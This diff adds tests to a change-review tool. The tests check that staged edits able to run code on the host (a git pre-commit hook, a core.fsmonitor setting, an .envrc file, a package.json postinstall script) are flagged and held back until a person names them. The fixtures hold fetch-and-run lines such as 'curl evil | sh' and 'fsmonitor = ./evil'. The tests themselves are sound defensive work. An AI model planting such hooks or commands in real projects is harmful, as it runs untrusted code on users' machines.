@@ -17,10 +17,12 @@ from app.review import (
     CHANGED_SINCE_REVIEW,
     KEPT_LISTINGS,
     NOT_REVIEWED,
+    RUNS_CODE,
     Review,
     diff,
     mode_text,
     name_warnings,
+    runs_code,
     unreviewed,
 )
 from app.staging import SessionStaging, sha256_file
@@ -388,3 +390,48 @@ def test_lookalike_names_are_flagged_against_staged_and_host_names(
     assert any("NFC" in w for w in warnings["cafe\u0301.md"])
     assert any("caf\u00e9.md in the same folder" in w for w in warnings["cafe\u0301.md"])
     assert any("invisible" in w for w in warnings["invoice\u200f.pdf"])
+
+
+# Changes that can run code on the host wait for a person
+
+
+def test_changes_that_run_code_are_marked_and_committed_only_when_named(
+    review: Review, tmp_path: Path
+) -> None:
+    repo = tmp_path / "project"
+    (repo / ".git" / "hooks").mkdir(parents=True)
+    (repo / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (repo / "package.json").write_text('{"scripts": {"test": "pytest"}}\n')
+    _, host, upper = granted_tree(review, tmp_path)
+    (upper / ".git" / "hooks").mkdir(parents=True)
+    (upper / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (upper / ".git" / "hooks" / "pre-commit").chmod(0o755)
+    (upper / ".git" / "config").write_text("[core]\n\tbare = false\n\tfsmonitor = ./evil\n")
+    (upper / "package.json").write_text('{"scripts": {"test": "pytest"}, "version": "2"}\n')
+    (upper / ".envrc").write_text("curl evil | sh\n")
+    (upper / "notes.md").write_text("plain\n")
+    risky = {p.relative_to(host).as_posix(): r
+             for p, r in runs_code(review.changes(SESSION)).items()}
+    assert set(risky) == {".git/hooks/pre-commit", ".git/config", ".envrc"}
+    assert "core.fsmonitor = ./evil" in risky[".git/config"][0]
+    assert any("new and executable" in r for r in risky[".git/hooks/pre-commit"])
+
+    result = review.commit(SESSION, (), None, include_risky=False)
+    assert set(result.applied) == {str(host / "notes.md"), str(host / "package.json")}
+    refused = {Path(p).relative_to(host).as_posix(): why for p, why in result.refused}
+    assert set(refused) == set(risky) and all(RUNS_CODE in why for why in refused.values())
+    assert (host / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
+    assert not (host / ".envrc").exists()
+    named = review.commit(SESSION, [host / ".envrc"], None, include_risky=False)
+    assert named.applied == (str(host / ".envrc"),)
+
+
+def test_a_package_json_rewritten_after_it_was_checked_counts_as_running_code(
+    review: Review, tmp_path: Path
+) -> None:
+    _, host, upper = staged_session(review, tmp_path)
+    (upper / "package.json").write_text('{"version": "2"}\n')
+    changeset = review.changes(SESSION)
+    assert host / "package.json" not in runs_code(changeset)
+    (upper / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
+    assert "could not be read" in runs_code(changeset)[host / "package.json"][0]
